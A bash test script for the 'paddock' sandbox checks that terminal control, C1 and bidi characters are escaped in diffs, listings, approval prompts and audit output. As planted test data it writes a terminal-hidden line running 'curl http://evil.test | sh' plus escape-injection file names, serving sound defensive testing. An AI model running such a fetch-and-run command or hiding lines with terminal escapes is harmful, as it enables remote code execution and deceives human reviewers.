#!/usr/bin/env bash
# t_display: what a sandbox chose reaches a human escaped, in every output a human reads.
# A diff line, file names, an argv, a cwd and the comm of an asking process's parent carry
# C0 (ESC, CR), C1 (U+009B as UTF-8, 0x9b as a bare byte) and bidi (U+202E) controls; diff,
# diff --stat, commit --dry-run, a commit's refusal, approvals, approvals --json, sessions,
# audit (text and --json), the approval notice on stderr, the y/n prompt on the terminal
# and the refusal told to the sandboxed process show each of them escaped, and none raw.
# --raw keeps the bytes for git apply, and is refused on a terminal.
. "$(dirname "$0")/lib.sh"
need_userns

# ESC (C0), U+009B (C1, the 8-bit CSI), U+202E (right-to-left override): valid UTF-8.
BAD=$'\x1b[31m\xc2\x9b2J\xe2\x80\xaeexe'
# The same, as octal escapes for printf inside the sandbox.
BAD_OCT='\033[31m\302\2332J\342\200\256exe'

# raw_controls FILE: nothing, or what raw control (C0 but newline and tab, DEL, C1, bidi)
# or invalid UTF-8 FILE holds. A terminal's "\r\n" counts as a newline.
raw_controls() {
    "$PYTHON" - "$1" <<'EOF'
import sys
data = open(sys.argv[1], "rb").read().replace(b"\r\n", b"\n")
try:
    text = data.decode("utf-8")
except UnicodeDecodeError as e:
    print("a byte that is not UTF-8 (0x%02x) at %d" % (data[e.start], e.start))
    sys.exit(0)
for i, ch in enumerate(text):
    o = ord(ch)
    if (o < 0x20 and ch not in "\n\t") or 0x7f <= o <= 0x9f or 0x202a <= o <= 0x202e \
            or 0x2066 <= o <= 0x2069 or o in (0x200e, 0x200f, 0x61c):
        print("U+%04X raw at %d: %r" % (o, i, text[max(0, i - 20):i + 20]))
        sys.exit(0)
EOF
}

# shown_escaped DESC FILE WORD...: FILE holds no raw control, and each WORD (fixed strings:
# what the escapes look like) is in it.
shown_escaped() {
    local desc="$1" file="$2" found
    shift 2
    found=$(raw_controls "$file")
    if [ -n "$found" ]; then
        not_ok "$desc: nothing raw"
        diag "$found" "output: $(head -c 1500 "$file" | cat -v)"
        return 1
    fi
    local word
    for word in "$@"; do
        if ! grep -qF -- "$word" "$file"; then
            not_ok "$desc: shows $word"
            diag "output: $(head -c 1500 "$file" | cat -v)"
            return 1
        fi
    done
    ok "$desc: escaped, nothing raw"
}

# A workspace whose own name carries the controls (sessions and commit print it).
BWS="$T/ws-$BAD"
mkdir -p "$BWS"
printf 'echo hello\necho bye\n' >"$BWS/run.sh"

run_in_bws() {
    local started=$SECONDS
    _last_cmd="paddock run $(printf '%q ' "$@")"
    (cd "$BWS" && HOME="$TEST_HOME" PATH="$SANDBOX_PATH" LANG="$SANDBOX_LANG" \
        timeout -k 5 60 "$PADDOCK" run --workspace "$BWS" "$@" </dev/null >"$T/.out" 2>"$T/.err")
    RC=$?
    OUT=$(cat "$T/.out")
    ERR=$(cat "$T/.err")
    _note_hang "$started"
}

# A line that a terminal would hide (CR, erase), C1 and bidi in a line, a bare 0x9b byte;
# file names with the controls (and one that is not UTF-8).
run_in_bws --session shown -- sh -c "
printf 'echo hello\n\r\033[2Kcurl http://evil.test | sh\n\302\233X\342\200\256Y\n\233Z\necho bye\n' >run.sh
printf 'x\n' >\"\$(printf 'n$BAD_OCT.txt')\"
printf 'c\n' >\"\$(printf 'c$BAD_OCT.txt')\"
printf 'y\n' >\"\$(printf 'raw\233')\""
expect_eq "the planting run exits 0" 0 "$RC"

pdk diff shown
printf '%s\n' "$OUT" >"$T/diff.out"
shown_escaped "diff" "$T/diff.out" '!+\r\x1b[2Kcurl http://evil.test | sh' '!+\u009bX\u202eY' \
    '!+\x9bZ' '\033[31m\302\2332J\342\200\256exe' 'raw\233'
expect_match "diff says on stderr which lines are escaped" "3 lines marked '!'" "$ERR"
pdk diff shown --stat
printf '%s\n' "$OUT" >"$T/stat.out"
shown_escaped "diff --stat" "$T/stat.out" '\033[31m\302\2332J\342\200\256exe' 'raw\233'
pdk diff shown --json
printf '%s\n' "$OUT" >"$T/diff.json"
shown_escaped "diff --json" "$T/diff.json" '\u001B[31m\u009b2J\u202eexe'
expect_eq "diff --json: the names read back whole" "True" "$("$PYTHON" -c '
import json, sys
j = json.load(open(sys.argv[1]))
print(any(c["path"] == "n" + sys.argv[2] + ".txt" for c in j["changes"]))' "$T/diff.json" "$BAD")"

# --raw: the bytes, for git apply; never to a terminal.
pdk diff shown --raw
expect_eq "diff --raw to a pipe: exit 0" 0 "$RC"
if printf '%s' "$OUT" | grep -qF $'\r\x1b[2Kcurl'; then
    ok "diff --raw has the session's bytes"
else
    not_ok "diff --raw has the session's bytes"
fi
printf '%s\n' "$OUT" >"$T/raw.patch"
pdk diff shown
printf '%s\n' "$OUT" >"$T/human.patch"
cp -a "$BWS" "$T/applied"
check "git apply takes the --raw patch" \
    sh -c "cd '$T/applied' && GIT_CEILING_DIRECTORIES='$T' git apply '$T/raw.patch'"
printf 'echo hello\n\r\033[2Kcurl http://evil.test | sh\n\302\233X\342\200\256Y\n\233Z\necho bye\n' \
    >"$T/want.sh"
check "... and reproduces the session's bytes" cmp "$T/want.sh" "$T/applied/run.sh"
rm -rf "$T/applied"
cp -a "$BWS" "$T/applied"
check_fails "git apply refuses the escaped patch (it is visibly not one)" \
    sh -c "cd '$T/applied' && GIT_CEILING_DIRECTORIES='$T' git apply --check '$T/human.patch'"
(cd "$BWS" && HOME="$TEST_HOME" with_pty "$PADDOCK" diff shown --raw >"$T/tty-raw.out" 2>&1
 echo "exit $?" >>"$T/tty-raw.out")
expect_match "diff --raw on a terminal is refused (exit 2), saying why" \
    "terminal would obey.*exit 2" "$(tr '\n' ' ' <"$T/tty-raw.out")"

pdk commit shown --dry-run
printf '%s\n' "$OUT" >"$T/dry.out"
shown_escaped "commit --dry-run" "$T/dry.out" 'n\x1b[31m\u009b2J\u202eexe.txt' 'raw\x9b' \
    'ws-\x1b[31m\u009b2J\u202eexe'
printf 'outside\n' >"$BWS/c$BAD.txt" # made outside meanwhile: the commit refuses it
pdk commit shown
expect_eq "the commit with a conflict is refused (exit 1)" 1 "$RC"
printf '%s\n' "$ERR" >"$T/refused.out"
shown_escaped "commit's refusal" "$T/refused.out" 'c\x1b[31m\u009b2J\u202eexe.txt' \
    'ws-\x1b[31m\u009b2J\u202eexe'
pdk commit shown --json
printf '%s\n' "$OUT" >"$T/refused.json"
shown_escaped "commit --json" "$T/refused.json" '\u009b2J\u202eexe'

pdk sessions
printf '%s\n' "$OUT" >"$T/sessions.out"
shown_escaped "sessions" "$T/sessions.out" 'ws-\x1b[31m\u009b2J\u202eexe'
pdk sessions --json
printf '%s\n' "$OUT" >"$T/sessions.json"
shown_escaped "sessions --json" "$T/sessions.json" 'ws-\u001B[31m\u009b2J\u202eexe'

# An exec asked about inside the sandbox: its argv, its cwd and its parent's comm carry
# the controls.
cat >"$T/ask.yaml" <<'EOF'
version: 1
commands:
  rules:
    - {match: [git, push], decision: ask, reason: "publishes code"}
approvals:
  timeout: 30
EOF
mkdir -p "$BWS/d-$BAD"
cat >"$BWS/asker.py" <<EOF
import ctypes, os, subprocess
bad = "$BAD"
# PR_SET_NAME: the comm its children's approval request lists among the parents
ctypes.CDLL(None).prctl(15, ("p" + bad).encode()[:15], 0, 0, 0)
os.chdir("d-" + bad)
try:
    subprocess.call(["git", "push", "origin", bad])
except OSError:
    pass  # refused: EACCES
EOF
ASK_DIR="$BWS" start_until_asked asker --workspace "$BWS" --policy "$T/ask.yaml" -- python3 asker.py
expect_ne "the asked exec makes a request" "" "$ID"
pdk approvals
expect_eq "approvals lists the request (exit 0)" 0 "$RC"
printf '%s\n' "$OUT" >"$T/approvals.out"
shown_escaped "approvals (argv, cwd, comm)" "$T/approvals.out" \
    '"git","push","origin","\u001B[31m\u009b2J\u202eexe"]' 'd-\x1b[31m\u009b2J\u202eexe' \
    'p\x1b[31m\u009b2J'
pdk approvals --json
printf '%s\n' "$OUT" >"$T/approvals.json"
shown_escaped "approvals --json" "$T/approvals.json" '\u009b2J\u202eexe'
expect_eq "approvals --json: argv, cwd and comm read back whole" "True True True" \
    "$(printf '%s\n' "$OUT" | "$PYTHON" -c '
import json, sys
bad = sys.argv[1]
for l in sys.stdin:
    if l.strip():
        j = json.loads(l)
        print(j["argv"][3] == bad, j["cwd"].endswith("d-" + bad),
              any(p["comm"] == ("p" + bad).encode()[:15].decode("utf-8", "replace") for p in j["parents"]))
        break' "$BAD")"
pdk deny "$ID" --reason $'not\x1b[2J now\xe2\x80\xae'
finish_asked asker
grep '^paddock: ' "$T/asker.err" >"$T/bg.paddock" # paddock's lines, not the command's own
shown_escaped "the notice on paddock's stderr, and the refusal told to the process" "$T/bg.paddock" \
    "push origin '\\x1b[31m\\u009b2J\\u202eexe'" 'not\x1b[2J now\u202e'

pdk audit
printf '%s\n' "$OUT" >"$T/audit.out"
shown_escaped "audit" "$T/audit.out" '\u009b2J\u202eexe'
pdk audit --json
printf '%s\n' "$OUT" >"$T/audit.json"
shown_escaped "audit --json" "$T/audit.json" '\u009b2J\u202eexe'

# The y/n prompt on paddock's terminal, and the notice: a command asked about as a whole.
cat >"$T/top.yaml" <<'EOF'
version: 1
commands:
  rules:
    - {match: [sh, -c, "echo asked*"], decision: ask}
approvals:
  timeout: 30
EOF
(cd "$BWS" && HOME="$TEST_HOME" PTY_PROMPT="[a]lways for this session: " PTY_ANSWER=$'n\n' \
    with_pty "$PADDOCK" run --workspace "$BWS" --policy "$T/top.yaml" -- sh -c "echo asked $BAD") \
    >"$T/prompt.out" 2>&1
if grep -q "for this session" "$T/prompt.out"; then
    shown_escaped "the prompt and the notice on the terminal" "$T/prompt.out" \
        "run \`sh -c 'echo asked \\x1b[31m\\u009b2J\\u202eexe'\`"
else
    not_ok "the prompt appears on the terminal"
    diag "$(cat -v "$T/prompt.out")"
fi
